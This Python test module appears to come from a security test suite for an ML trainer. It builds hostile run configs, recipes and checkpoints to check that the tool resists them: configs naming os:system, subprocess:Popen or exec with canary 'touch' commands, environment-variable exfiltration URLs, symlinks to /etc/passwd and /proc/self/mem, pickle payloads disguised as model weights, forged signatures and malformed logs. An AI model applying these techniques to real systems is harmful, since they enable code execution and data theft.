"""Runs, recipes and states of a trainer: code that they name, links, pickles, damage."""

from __future__ import annotations

import json
import pickle
import shutil
import struct
from pathlib import Path
from random import Random
from typing import Any

from trust.file_cases.case import (
    CANARY,
    Command,
    Payload,
    case,
    checkpoint,
    evil,
    lookers,
    run_copy,
    some,
)

NAMED: list[dict[str, Any]] = [
    {"task.env": "evil:Env"},
    {"task.env": [{"id": "evil:Env"}]},
    {"task.env": "subprocess:Popen", "task.args": {"args": ["touch", CANARY]}},
    {"task.env": "os:system", "task.args": {"command": f"touch {CANARY}"}},
    {"task.env": "builtins:exec"},
    {"task.env": "graft.registry:load", "task.args": {"path": "evil:Env"}},
    {"task.reward": "evil:reward"},
    {"task.reward": [{"evil:Grader": {"a": 1}}]},
    {"task.wrappers": ["evil:wrap"]},
    {"task.wrappers": [{"tools": {"tools": ["evil:tool"]}}]},
    {"task.wrappers": [{"tools": {"tools": [{"mcp": ["touch", CANARY]}]}}]},
    {
        "task.wrappers": [
            {"tools": {"tools": [{"mcp": {"mcpServers": {"a": {"command": "touch"}}}}]}}
        ]
    },
    {"task.wrappers": [{"python_tool": {"sandbox": "none"}}]},
    {"eval.env": "evil:Env"},
    {"algo.loss": "evil:loss"},
    {"algo.credit": ["evil:credit"]},
    {"algo.name": "evil:preset"},
    {"rollout.branch": "evil:branch"},
    {"engine.name": "evil:Engine"},
    {"run.trackers": ["evil:Tracker"]},
    {"model.chat_template": "evil.py"},
    {"actions.file": "evil.yaml"},
]


@case("runs", NAMED)
def run_that_names_code(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run_copy(folder, base, variant)
    evil(folder)
    evil(folder / "theirs")
    (folder / "evil.yaml").write_text("syntax: evil:syntax\ntools: []\n")
    return some(rng, lookers("theirs"), 3)


@case("recipes", NAMED)
def recipe_that_names_code(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base, variant)
    (run / "config.yaml").rename(folder / "recipe.yaml")
    evil(folder)
    model = str(checkpoint(run))
    on = ["--recipe", "recipe.yaml"]
    return [
        ["doctor", "recipe.yaml"],
        ["plan", "recipe.yaml", "--no-probe"],
        ["rollout", model, *on],
    ]


@case("runs", range(6))
def forged_signature(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base, {"task.env": "evil:Env"})
    evil(folder)
    given = [rng.randbytes(32).hex(), "", "0" * 64, "ü" * 50, "a" * 10_000_000]
    own = (base / "run" / "config.yaml.sig").read_text()  # of another text, by the right key
    (run / "config.yaml.sig").write_text([*given, own][variant])
    return [["eval", "theirs", "--tasks", "1"]]


@case("runs", range(4))
def environment_variables(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    """A run that would send a variable away."""
    url = "http://127.0.0.1:9/${oc.env:HOME}"
    changes = [
        {"task.reward": {"judge": {"url": url}}},
        {"task.wrappers": [{"tools": {"tools": [{"mcp": url}]}}]},
        {"run.name": "${oc.decode:'${oc.env:HOME}'}"},
        {"model.chat_template": "{{ '${oc.env:PATH}' }}"},
    ]
    run_copy(folder, base, changes[variant])
    return some(rng, lookers("theirs")[:5])


@case("runs", range(8))
def links_out_of_the_folder(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base)
    name = rng.choice(["config.yaml", "metrics.jsonl", "summary.json", "episodes", "checkpoints"])
    path = run / name
    shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    path.symlink_to(
        rng.choice(["/dev/zero", "/etc/passwd", "/proc/self/mem", "/", "loop", str(run)])
    )
    (run / "loop").symlink_to("loop")
    return some(
        rng, [["runs", "."], ["report", "theirs", "--out", "r.html"], *lookers("theirs")[:3]]
    )


@case("runs", range(7))
def logs_without_end(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base)
    deep = rng.randrange(10_000, 200_000)
    lines = [
        lambda: b"[" * deep,
        lambda: b'{"step":' * deep,
        lambda: b'{"step": 1, "x": "' + b"a" * 200_000_000,
        lambda: b'{"step": ' + b"9" * 100_000 + b', "phase": "rl"}\n',
        lambda: b'{"step": 1e999, "phase": "rl", "loss": NaN}\n' * 1000,
        lambda: b'{"step": -1, "phase": "\\ud800", "loss": "x"}\n' * 1000,
        lambda: b"\0" * 1_000_000,
    ]
    files = ["metrics.jsonl", "alarms.jsonl", "summary.json", "stopped.json", "changes.jsonl"]
    (run / rng.choice([*files, "episodes/step_000001.jsonl"])).write_bytes(lines[variant]())
    return [["runs", "."], ["report", "theirs", "--out", "r.html"]]


@case("states", range(8))
def damaged_state(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base)
    place = checkpoint(run)
    parts = ["state.json", "trainer/state.json", "trainer/state.safetensors"]
    parts += ["trainer/part-00000.safetensors"]
    target = place / rng.choice(parts)
    whole = target.read_bytes()
    damaged = [
        lambda: b"",
        lambda: whole[: len(whole) // 2],
        lambda: b"[" * 100_000,
        lambda: struct.pack("<Q", 1 << 62) + b"{}",
        lambda: struct.pack("<Q", 90_000_000) + b" " * 1000,
        lambda: json.dumps(
            {"steps": "x", "random": {"python": [3, ["a"], None], "numpy": [1]}}
        ).encode(),
        lambda: pickle.dumps(Payload()),
        lambda: bytes(rng.randrange(256) for _ in range(5000)),
    ]
    target.write_bytes(damaged[variant]())
    own = base / "recipe.yaml"
    train = ["train", str(own), "run.dir=.", "run.name=theirs", "train.steps=3"]
    return some(rng, [["replay", "theirs", "--step", "2"], train], 1)


@case("states")
def pickled_weights(folder: Path, rng: Random, base: Path, variant: Any) -> list[Command]:
    run = run_copy(folder, base)
    place = checkpoint(run)
    (place / "model.safetensors").unlink()
    payload = pickle.dumps(Payload())
    name = rng.choice(["pytorch_model.bin", "model.pt", "consolidated.00.pth", "model.safetensors"])
    (place / name).write_bytes(payload)
    verl = folder / "verl"
    shutil.copytree(place, verl)
    (verl / "model_world_size_1_rank_0.pt").write_bytes(payload)
    return [
        ["generate", "theirs", "--prompt", "1+1="],
        ["export", "--from-verl", "verl", "--out", "exported"],
    ]
